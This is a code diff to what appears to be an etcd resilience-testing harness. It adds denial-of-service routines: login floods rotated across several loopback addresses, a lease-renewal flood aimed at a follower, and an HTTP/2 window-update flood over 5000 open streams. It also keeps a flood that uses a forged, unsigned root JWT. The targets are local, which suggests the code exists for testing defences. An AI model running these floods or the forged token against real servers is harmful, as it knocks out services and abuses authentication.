@@ -10,38 +10,62 @@
 #include <string.h>
 
 enum {
+    ADDRESSES_MAX = 8,
+    RENEWERS = 4,
+    RENEWALS = 500, /* of each, at once: together twice as many as a follower asks about */
+    RENEWALS_MS = 500,
+    OPEN_STREAMS = 5000,
+    WINDOWS_MS = 5, /* between two changes of all their windows */
     LARGE_PUT_BYTES = 1024 * 1024,
 };
 
-/* As fast as a client does that waits for no response, in handfuls. */
-static void flood(struct attacker *a, const char *path, const char *field, const char *value,
+/* As fast as a client does that waits for no response, in handfuls; from so many addresses in turn,
+ * 127.0.0.2 and so on, if there is more than one. */
+static void flood(struct attacker *a, unsigned addresses, const char *path, const char *token,
                   struct bytes message)
 {
     enum { HANDFUL = 10, PAUSE_MS = 50 };
-    struct raw_h2 r;
+    struct raw_h2 lines[ADDRESSES_MAX] = {0};
 
-    for (;; attacker_pause_ms(PAUSE_MS)) {
-        if (!raw_h2_open(&r, a->context, a->ports.client, RAW_H2_WINDOW_MAX))
-            continue;
-        for (bool is_well = true; is_well; attacker_pause_ms(PAUSE_MS)) {
-            for (unsigned i = 0; i < HANDFUL && is_well; i++) {
-                is_well = raw_h2_request(&r, path, field, value, message);
-                attacker_made(a);
-            }
-            is_well = is_well && raw_h2_drain(&r);
+    for (unsigned i = 0; i < addresses; i++)
+        lines[i] = (struct raw_h2){.fd = -1, .from = addresses > 1 ? (uint8_t)(i + 2) : 0};
+    for (unsigned at = 0;; at = (at + 1) % addresses, attacker_pause_ms(PAUSE_MS)) {
+        struct raw_h2 *r = &lines[at];
+        bool is_well =
+            r->fd >= 0 || raw_h2_open(r, a->context, a->target.client, RAW_H2_WINDOW_MAX);
+        for (unsigned i = 0; i < HANDFUL && is_well; i++) {
+            is_well = raw_h2_request(r, path, token ? "token" : NULL, token, message);
+            attacker_made(a);
         }
-        raw_h2_close(&r);
+        if (!is_well || !raw_h2_drain(r))
+            raw_h2_close(r);
     }
+}
+
+static void log_in(struct attacker *a, const char *user, unsigned addresses)
+{
+    struct buf wire = {0};
+
+    pb_encode(
+        &pb_authenticate_request_schema,
+        &(struct pb_authenticate_request){.name = bytes_of_str(user), .password = BYTES("wrong")},
+        &wire);
+    flood(a, addresses, "/etcdserverpb.Auth/Authenticate", NULL, buf_bytes(&wire));
 }
 
 void attack_by_logins(struct attacker *a)
 {
-    struct buf wire = {0};
+    log_in(a, "root", 1);
+}
 
-    pb_encode(&pb_authenticate_request_schema,
-              &(struct pb_authenticate_request){.name = BYTES("root"), .password = BYTES("wrong")},
-              &wire);
-    flood(a, "/etcdserverpb.Auth/Authenticate", NULL, NULL, buf_bytes(&wire));
+void attack_by_logins_of_eight(struct attacker *a)
+{
+    log_in(a, "root", ADDRESSES_MAX);
+}
+
+void attack_by_costly_logins(struct attacker *a)
+{
+    log_in(a, SIEGE_COSTLY_USER, 1);
 }
 
 /* Of root, says this one, until 2099; but nobody has signed it. */
@@ -50,11 +74,58 @@ void attack_by_bad_tokens(struct attacker *a)
     struct buf wire = {0};
 
     pb_encode(&pb_range_request_schema, &(struct pb_range_request){.key = BYTES("a")}, &wire);
-    flood(a, "/etcdserverpb.KV/Range", "token",
+    flood(a, 1, "/etcdserverpb.KV/Range",
           "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9."
           "eyJ1c2VybmFtZSI6InJvb3QiLCJyZXZpc2lvbiI6MSwiZXhwIjo0MTAyNDQ0ODAwfQ."
           "AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4_QA",
           buf_bytes(&wire));
+}
+
+/* A follower has to ask the leader about each. */
+void attack_by_renewals(struct attacker *a)
+{
+    struct raw_h2 lines[RENEWERS];
+    struct buf block = {0}, renewals = {0};
+
+    raw_h2_put_request(&block, "/etcdserverpb.Lease/LeaseKeepAlive");
+    for (unsigned i = 0; i < RENEWERS; i++)
+        lines[i] = (struct raw_h2){.fd = -1};
+    for (unsigned next = 0;; attacker_pause_ms(RENEWALS_MS))
+        for (unsigned i = 0; i < RENEWERS; i++) {
+            struct raw_h2 *r = &lines[i];
+            bool is_well =
+                r->fd >= 0 || (raw_h2_open(r, a->context, a->target.follower, RAW_H2_WINDOW_MAX) &&
+                               raw_h2_headers(r, buf_bytes(&block), false));
+            for (unsigned k = 0; k < RENEWALS && is_well; k++, next++) {
+                buf_clear(&renewals);
+                pb_encode(&pb_lease_keep_alive_request_schema,
+                          &(struct pb_lease_id){.id = SIEGE_LEASE + next % SIEGE_LEASES},
+                          &renewals);
+                is_well = raw_h2_message(r, buf_bytes(&renewals), false, false);
+                attacker_made(a);
+            }
+            if (!is_well || !raw_h2_drain(r))
+                raw_h2_close(r);
+        }
+}
+
+/* Each frame changes the windows of all streams. */
+void attack_by_windows(struct attacker *a)
+{
+    struct raw_h2 r = {.fd = -1};
+    struct buf block = {0};
+
+    raw_h2_put_request(&block, "/etcdserverpb.Watch/Watch");
+    for (;; attacker_pause_ms(1000)) {
+        bool is_well = raw_h2_open(&r, a->context, a->target.client, RAW_H2_WINDOW_USUAL);
+        for (unsigned i = 0; i < OPEN_STREAMS && is_well; i++)
+            is_well = raw_h2_headers(&r, buf_bytes(&block), false);
+        for (unsigned i = 0; is_well; i++, attacker_pause_ms(WINDOWS_MS)) {
+            is_well = raw_h2_set_window(&r, RAW_H2_WINDOW_USUAL + i % 2) && raw_h2_drain(&r);
+            attacker_made(a);
+        }
+        raw_h2_close(&r);
+    }
 }
 
 struct large_put {
@@ -78,7 +149,7 @@ void attack_by_large_puts(struct attacker *a)
     struct large_put puts[AT_ONCE] = {0};
     static uint8_t value[LARGE_PUT_BYTES];
     static const char *const keys[AT_ONCE] = {"large0", "large1", "large2", "large3"};
-    struct net_address to = {.family = NET_IP4, .port = a->ports.client, .ip = {127, 0, 0, 1}};
+    struct net_address to = {.family = NET_IP4, .port = a->target.client, .ip = {127, 0, 0, 1}};
     struct caller caller;
     struct tls *tls;
     struct arena arena = {0};
